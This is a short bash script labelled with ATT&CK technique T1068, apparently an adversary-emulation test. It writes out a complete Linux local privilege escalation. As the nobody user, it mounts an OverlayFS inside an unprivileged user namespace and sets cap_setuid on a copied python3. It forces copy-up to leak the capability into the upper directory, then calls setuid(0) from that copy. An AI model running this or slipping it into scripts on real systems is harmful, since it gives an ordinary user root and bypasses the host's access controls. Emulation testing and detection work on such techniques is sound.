#!/bin/bash
# T1068: An ordinary user makes an overlay in a namespace and takes rights out of it.
cd /tmp; setpriv --reuid 65534 --regid 65534 --clear-groups sh -c 'mkdir -p l u w m; cp /usr/bin/python3 l/; unshare -Urm sh -c "mount -t overlay o -o lowerdir=l,upperdir=u,workdir=w m; setcap cap_setuid+eip m/python3; touch m/python3"; u/python3 -c "import os;os.setuid(0)"'
true
